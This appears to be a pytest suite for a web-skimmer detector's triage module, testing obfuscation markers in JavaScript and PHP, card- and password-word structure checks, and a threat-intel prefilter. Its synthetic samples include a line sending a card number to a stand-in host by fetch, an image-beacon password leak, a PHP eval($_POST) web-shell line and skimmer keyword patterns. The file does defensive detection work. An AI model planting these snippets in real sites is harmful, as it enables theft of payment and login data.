"""Tests of the triage (skimguard.analyze.triage): which deep layers a segment is worth.

All samples are synthetic, written for these tests.
"""

from __future__ import annotations

import time

import pytest

from skimguard.analyze import triage
from skimguard.analyze.model import Language
from skimguard.analyze.triage import (
    STRUCTURE_FREE_BYTES,
    dense_obfuscation,
    intel_prefilter,
    obfuscation_markers,
    revealed_vocabulary,
    structure_candidate,
    structure_needs_evidence,
)
from skimguard.intel import IntelIndex, parse_feed

JS, PHP = Language.JS, Language.PHP


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        (r'u = "\x68\x74\x74\x70";', ("escape-run",)),
        (r'u = "\u0063\u0076\u0076";', ("escape-run",)),
        (r"u = '\143\166\166';", ("escape-run",)),
        ("s = String.fromCharCode(104, 116, 116);", ("char-codes",)),
        ("s = String.fromCharCode.apply(null, [104, 105]);", ("char-codes",)),
        ("s = String.fromCharCode(99) + String.fromCharCode(99) + String.fromCharCode(118);", ("char-codes",)),
        ("x = atob('aGk=');", ("decode-literal",)),
        ("x = unescape('%61'); y = decodeURIComponent('%62');", ("decode-literal",)),
        ("eval('steal()');", ("eval",)),
        ("eval(function(p,a,c,k,e,d){return p}('x',1,1,'x'.split('|'),0,{}));", ("eval",)),
        ("eval(atob('c3RlYWwoKQ=='));", ("decode-literal", "eval")),
        ('f = Function("a", "return a + 1");', ("eval",)),
        ('f = Function("ret" + "urn x");', ("eval",)),
        ("f = Function(atob(s));", ("eval",)),
        ("setTimeout('steal()', 10);", ("eval",)),
        ("var _0x1a2b = ['a'];", ("string-array",)),
        ("(function(a){a.push(a.shift());})(k);", ("string-array",)),
        ("(function(a){a['push'](a['shift']());})(k);", ("string-array",)),
        ("var c = parseInt(_0x12(0x1)) / 1;", ("string-array",)),
        ("q(" + "".join(f"w('0x{i:x}')," for i in range(20)) + ");", ("string-array",)),
        ("q(" + "".join(f"w(0x{i:x})," for i in range(20)) + ");", ("string-array",)),
        ("q(" + "".join(f"w(0x{i:x}, 'k{i}')," for i in range(20)) + ");", ("string-array",)),
        ("u = 'chec' + 'kout';", ("split-literals",)),
        ("document['cookie'] = x; f()[\"value\"];", ("api-brackets",)),
        ("x = window.atob('aGk=') + self['unescape'] ('%61');", ("decode-literal",)),
        (
            "var o = '2|0|1'.split('|'), i = 0; while (!![]) { switch (o[i++]) { case '0': a(); continue; } break; }",
            ("control-flow",),
        ),
    ],
)
def test_javascript_hiding_markers(code: str, expected: tuple[str, ...]) -> None:
    assert obfuscation_markers(code, JS) == expected


@pytest.mark.parametrize(
    "code",
    [
        'var s = "\\u00a0\\u2028"; var t = "\\x3c/script\\x3e";',  # escapes, but not a run of printable ones
        "var b = String.fromCharCode(32); var c = String.fromCharCode(code);",
        "var d = atob(data); eval(expression); setTimeout(fn, 10);",
        'var g = new Function("return this")(); var h = Function(args, body);',
        "x = 'a' + b; y = 'px' + 'long string here, not a fragment';",
        "var names = ['cookie', 'value']; o['default'] = 1;",
        "q(" + "".join(f"w('0x{i:x}')," for i in range(19)) + ");",  # 19 hex-index calls: not enough
        "function add(a, b) { return a + b; }",
        # names that merely end like a decoder (jQuery's isFunction, markFunction, DOMEval, globalEval)
        "if (isFunction( obj )) { markFunction( function(seed) {} ); DOMEval( code, node ); globalEval( 'x' ); }",
        "myatob('aGk='); xunescape('%61'); resetTimeout('x');",
        # a byte-code loop without the split order string
        "while (true) { switch (ops[pc++]) { case 1: push(); break; } }",
    ],
)
def test_everyday_javascript_has_no_marker(code: str) -> None:
    assert obfuscation_markers(code, JS) == ()


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("<?php echo base64_decode('aGk=');", ("decode-call",)),
        ("<?php echo BASE64_DECODE /* x */ ('aGk=');", ("decode-call",)),
        ("<?php echo base64_decode(strrev($x));", ("decode-call",)),
        ("<?php $a = chr(97) . chr(98);", ("decode-call",)),
        ("<?php $x = str_replace('#', '', 'ev#al');", ("decode-call",)),
        ("<?php @eval(gzinflate($x));", ("eval",)),
        ("<?php eval('echo 1;');", ("eval",)),
        ("<?php assert(base64_decode('ZWNobyAxOw=='));", ("decode-call", "eval")),
        ('<?php $s = "\\x65\\x76";', ("escape-run",)),
        ("<?php $f = 'ev' . 'al';", ("split-literals",)),
    ],
)
def test_php_hiding_markers(code: str, expected: tuple[str, ...]) -> None:
    assert obfuscation_markers(code, PHP) == expected


@pytest.mark.parametrize(
    "code",
    [
        "<?php echo base64_decode($data); $c = chr($n);",
        "<?php eval($_POST['c']); $o->eval('x'); $eval('y');",
        '<?php $s = "line\\n\\t"; $t = "\\x1b";',
        "<?php echo '<td>' . $x . '</td>';",
    ],
)
def test_everyday_php_has_no_marker(code: str) -> None:
    assert obfuscation_markers(code, PHP) == ()


def test_other_languages_have_no_markers() -> None:
    assert obfuscation_markers("eval(atob('x'))", Language.HTML) == ()
    assert obfuscation_markers("eval(atob('x'))", Language.TEXT) == ()


def test_structure_candidate_needs_a_word_and_a_sink() -> None:
    assert structure_candidate("var n = f('#cc_number').value; fetch('//x.test/?' + n);") is True
    assert structure_candidate("if (location.href.indexOf('onestep') > 0) load();") is True
    assert structure_candidate("var p = u.PASSWORD; new Image().src = p;") is True
    assert structure_candidate("fetch('/api/items').then(render);") is False  # a sink, no word
    assert structure_candidate("var cardNumber = 1;") is False  # a word, no sink
    assert structure_candidate("x = 1 + 2;") is False
    hidden = "var _0x = [" + ",".join(["'\\x61'"] * 24) + "];"
    assert dense_obfuscation(hidden) is True and structure_candidate(hidden) is True


def test_large_texts_need_evidence_and_decoding_can_provide_it() -> None:
    assert STRUCTURE_FREE_BYTES == 16 * 1024
    assert structure_needs_evidence("x" * STRUCTURE_FREE_BYTES) is False
    assert structure_needs_evidence("x" * (STRUCTURE_FREE_BYTES + 1)) is True
    raw = "var a = '\\x63\\x68\\x65\\x63\\x6b\\x6f\\x75\\x74'; var card = 1;"
    assert revealed_vocabulary(raw, "var a = 'checkout'; var card = 1;") is True
    assert revealed_vocabulary("var card = 1;", "var card = 1; var x = 'a';") is False
    assert revealed_vocabulary("var Card = 1;", "var card = 2; var CARD = 3;") is True  # more often


def test_intel_prefilter_is_false_only_when_no_indicator_can_match() -> None:
    index = IntelIndex.build(
        parse_feed("evil-cdn.test\nhttps://gate.bad.test/collect\n/skin/x.php\n", "feed").indicators
    )
    may_match = intel_prefilter(index)
    assert may_match("var u = '//static.EVIL-CDN.test/a.js';") is True
    assert may_match("post('https://gate.bad.test/collect')") is True
    assert may_match("get('/skin/x.php?id=1')") is True
    assert may_match("var u = 'https://cdn.example.test/a.js';") is False
    # characters Python's case-insensitive [a-z] maps onto ASCII (the Kelvin sign) keep the look-up
    assert may_match("var u = '//evil-cdn.tes\u212a/';") is True
    # one test per index, kept with it (its compiled needles and its scanners)
    assert intel_prefilter(index) is may_match and may_match("nothing") is False
    other = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
    assert intel_prefilter(other) is not may_match and intel_prefilter(other)("/skin/x.php") is False
    # an indicator too short to filter on: every text is looked up
    short = IntelIndex.build(parse_feed("/x\n", "feed").indicators)
    assert intel_prefilter(short)("anything at all") is True
    assert list(index.scan_text("var u = 'https://cdn.example.test/a.js';")) == []


@pytest.mark.parametrize(
    "text",
    [
        "'a'+" * 300_000,
        "\\x41" * 250_000,
        "['" * 500_000,
        "fromCharCode(1," * 70_000,
        "Function('a'," * 80_000,
        "eval(" * 200_000,
        "_0" * 500_000,
    ],
)
def test_markers_are_fast_on_adversarial_input(text: str) -> None:
    assert len(text) >= 900_000
    start = time.perf_counter()
    obfuscation_markers(text, JS)
    obfuscation_markers("<?php " + text, PHP)
    structure_candidate(text)
    assert time.perf_counter() - start < 1.0


def test_the_semantic_words_cover_the_structure_layers_words() -> None:
    # every card, checkout and personal word the structure rules look for contains a word from the list
    for word in ("cc_number", "cvv2", "expiry", "checkout", "onepage", "billing", "password", "telephone"):
        assert any(w in word for w in triage._SEMANTIC_WORDS), word


@pytest.mark.parametrize(
    "text",
    [
        "var n = f('#CC_NUMBER'); fetch(u + n); s = '\\x68\\x74\\x74'; x = 'a' + 'b'; o['cookie'];",
        "\u212aasse: x.src = 1;",  # the Kelvin sign lowers into "k": "kasse" in the lowered text
        "var \u0130d = 1; check(); new Image().src = u;",  # İ lowers into two characters
        "カード番号 = v; fetch(u);",
        "<?php echo BASE64_DECODE('aGk='); $s = \"\\x65\\x76\"; $f = 'ev' . 'al'; ?>",
        "",
    ],
)
def test_one_needle_scan_answers_as_substring_tests_do(text: str) -> None:
    # the yara-x needle scan must give what `needle in text` and `needle in text.lower()` give
    for needles in (triage._JS_NEEDLES, triage._PHP_NEEDLES):
        present = needles.present(text)
        assert present.exact == {n for n in needles.exact if n in text}
        assert present.folded == {n for n in needles.folded if n in text.lower()}


def test_markers_and_candidate_share_one_scan_of_a_text(monkeypatch: pytest.MonkeyPatch) -> None:
    scanned: list[str] = []
    real = triage._NeedleSet.present

    def counting(self: triage._NeedleSet, text: str) -> triage._Present:
        scanned.append(text)
        return real(self, text)

    monkeypatch.setattr(triage._NeedleSet, "present", counting)
    code = "var n = f('#cc_number').value; fetch('//x.test/?' + n); eval('x');"
    assert obfuscation_markers(code, JS) == ("eval",) and structure_candidate(code) is True
    assert scanned == [code]
    assert structure_candidate(code + " ") is True and len(scanned) == 2  # another text: scanned
